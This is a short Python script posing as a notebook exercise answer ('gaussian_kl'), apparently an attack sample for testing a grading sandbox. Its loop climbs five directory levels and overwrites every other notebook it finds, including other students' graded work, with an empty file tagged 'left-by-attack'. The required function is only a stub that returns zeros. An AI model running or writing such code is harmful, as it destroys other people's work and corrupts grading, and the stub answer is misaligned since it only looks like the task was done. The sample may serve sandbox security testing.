# tries: overwrite and remove the notebooks of others, handed in and graded, in the folders above its own

# %%
# exercise: gaussian_kl
import glob
import os

here, looked = os.getcwd(), 0
for _ in range(5):
    for pattern in ("*.ipynb", "*/*.ipynb", "*/*/*.ipynb", "*/*/*/*.ipynb"):
        for path in glob.glob(os.path.join(glob.escape(here), pattern)):
            if "mallory" in path or path == os.path.join(os.getcwd(), os.path.basename(path)):
                continue
            try:
                os.chmod(path, 0o644)
                with open(path, "w") as file:
                    file.write('{"cells": [], "metadata": {"left-by-attack": 1}, "nbformat": 4, "nbformat_minor": 5}')
            except OSError:
                pass
    looked += 1
    here = os.path.dirname(here)


def gaussian_kl(mu, sigma):
    return torch.zeros(len(mu))


print("reached" if looked == 5 else looked)
